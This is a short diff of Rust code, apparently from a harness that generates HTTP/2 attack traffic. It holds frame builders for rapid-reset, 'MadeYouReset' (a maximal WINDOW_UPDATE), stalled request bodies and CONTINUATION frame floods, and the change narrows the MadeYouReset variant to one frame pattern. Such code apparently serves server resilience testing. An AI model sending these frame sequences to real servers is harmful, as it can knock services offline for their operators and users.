@@ -96,12 +96,11 @@ impl Attack {
         let get = || headers(stream, END_STREAM, &block(GET));
         let frames: &[Vec<u8>] = &match self {
             Self::RapidReset => vec![get(), frame(kind::RST_STREAM, 0, stream, &[0, 0, 0, 8])],
-            // Beyond the largest window, or a body where there is none.
-            Self::MadeYouReset if n.is_multiple_of(2) => {
+            // Beyond the largest window there is.
+            Self::MadeYouReset => {
                 let most = 0x7fff_ffff_u32.to_be_bytes();
                 vec![get(), frame(kind::WINDOW_UPDATE, 0, stream, &most)]
             }
-            Self::MadeYouReset => vec![get(), frame(kind::DATA, 0, stream, b"x")],
             // They are never over, as their bodies are not.
             Self::Refused => vec![headers(stream, 0, &block(POST))],
             Self::Continuation => vec![frame(kind::CONTINUATION, 0, 1, &field("x", "y"))],
